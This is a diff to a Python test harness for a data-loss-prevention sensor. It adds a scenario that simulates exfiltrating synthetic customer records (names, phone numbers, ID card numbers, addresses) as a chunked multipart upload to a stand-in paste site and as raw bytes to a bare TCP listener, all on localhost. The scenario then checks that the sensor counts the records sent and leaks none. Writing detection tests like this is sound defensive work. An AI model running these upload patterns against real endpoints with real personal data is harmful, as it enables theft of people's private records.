@@ -38,6 +38,12 @@ its own (`jwt: {header: X-Api-Token, claim: ctx.staff}`). Required: every
 page call names the account that logged in, by its session, the API calls
 by their token; every page's and answer's records counted as sent; the one
 who browses 1,500 customers alerted, the others not; nothing leaked.
+A third part sends records out instead of fetching them: a CSV of 400
+customers uploaded as multipart/form-data in a chunked POST to a paste
+site (no identity rules: the account is the client address), and the same
+kind of file written to a bare TCP listener (no HTTP: the stream is scanned
+as it is). Required: the upload's http event and the raw flow's event count
+the records sent, each way they went, and nothing leaks.
 This script prints counts and verdicts, never a record.
 """
 import datetime
@@ -493,6 +499,97 @@ def scenario_erp(lh, src, d):
           "records are shown as masked samples (%d)" % len(samples))
 
 
+def csv_of(first, n):
+    rows = ["name,mobile,idcard,address"]
+    rows += ["%s,%s,%s,%s" % (p["name"], p["mobile"], p["idcard"], p["addr"])
+             for p in (person(first + k) for k in range(n))]
+    return ("\r\n".join(rows) + "\r\n").encode()
+
+
+def scenario_exfil(lh, src, d):
+    world = World()
+    up = [person(10000 + k) for k in range(400)]
+    raw = [person(10400 + k) for k in range(300)]
+    world.sent(("upload", 0), up)
+    world.sent(("raw", 0), raw)
+
+    class Paste(http.server.BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def log_message(self, *a):
+            pass
+
+        def do_POST(self):
+            body = b""
+            while True:  # the chunked request body, read to its end
+                size = int(self.rfile.readline().split(b";")[0], 16)
+                if size == 0:
+                    self.rfile.readline()
+                    break
+                body += self.rfile.read(size)
+                self.rfile.readline()
+            reply = b'{"ok":true,"bytes":%d}' % len(body)
+            self.send_response(201)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(reply)))
+            self.end_headers()
+            self.wfile.write(reply)
+    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Paste)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    lst = socket.socket()
+    lst.bind(("127.0.0.1", 0))
+    lst.listen(1)
+    raw_port = lst.getsockname()[1]
+
+    def sink():
+        c, _ = lst.accept()
+        while c.recv(65536):
+            pass
+        c.close()
+    threading.Thread(target=sink, daemon=True).start()
+
+    out = os.path.join(d, "exfil")
+    lv = ops.LiveSensor([lh, "-i", "lo", "-R", os.path.join(src, "rules", "pii-cn.yaml"),
+                         "-o", out, "--site-key", ops.KEY, "--no-checksum"])
+    if not lv.ready("lo"):
+        srv.shutdown()
+        return
+    boundary = "----lh%d" % os.getpid()
+    body = (b"--" + boundary.encode() + b"\r\nContent-Disposition: form-data; name=\"file\"; "
+            b"filename=\"customers.csv\"\r\nContent-Type: text/csv\r\n\r\n" + csv_of(10000, 400) +
+            b"\r\n--" + boundary.encode() + b"--\r\n")
+    c = http.client.HTTPConnection("127.0.0.1", srv.server_address[1], timeout=30)
+    c.putrequest("POST", "/api/paste")
+    c.putheader("Content-Type", "multipart/form-data; boundary=" + boundary)
+    c.putheader("Transfer-Encoding", "chunked")
+    c.endheaders()
+    for k in range(0, len(body), 4000):
+        piece = body[k:k + 4000]
+        c.send(b"%x\r\n%s\r\n" % (len(piece), piece))
+    c.send(b"0\r\n\r\n")
+    c.getresponse().read()
+    c.close()
+    t = socket.create_connection(lst.getsockname())
+    t.sendall(csv_of(10400, 300))
+    t.close()
+    settle(lv)
+    srv.shutdown()
+    lv.stop()
+    lst.close()
+    evs = ops.events(os.path.join(out, "eve.json"))
+    want = lambda key: world.responses[key]
+    http_ev = [e for e in evs if e["event_type"] == "http"]
+    got = http_ev[0].get("records", {}).get("counts", {}) if len(http_ev) == 1 else {}
+    check(all(got.get(c) == v for c, v in want(("upload", 0)).items()),
+          "a chunked multipart upload: its records counted as sent (%s vs %s)" % (got, want(("upload", 0))))
+    flows = [e for e in evs if e["event_type"] == "flow" and e.get("dest_port") == raw_port]
+    got = flows[0].get("records", {}).get("toserver", {}).get("counts", {}) if len(flows) == 1 else {}
+    check(all(got.get(c) == v for c, v in want(("raw", 0)).items()),
+          "a file written to a bare TCP port: its records counted as sent, toserver (%s vs %s)"
+          % (got, want(("raw", 0))))
+    check(leaks(world, out) == 0, "exfiltration: no value sent is in the sensor's files")
+
+
 def main(lh, src):
     if os.environ.get("LH_LIVE_NETNS") != "1":
         env = dict(os.environ, LH_LIVE_NETNS="1")
@@ -507,6 +604,7 @@ def main(lh, src):
     with tempfile.TemporaryDirectory() as d:
         scenario_erp(lh, src, d)
         scenario_crm(lh, src, d)
+        scenario_exfil(lh, src, d)
 
 
 if __name__ == "__main__":
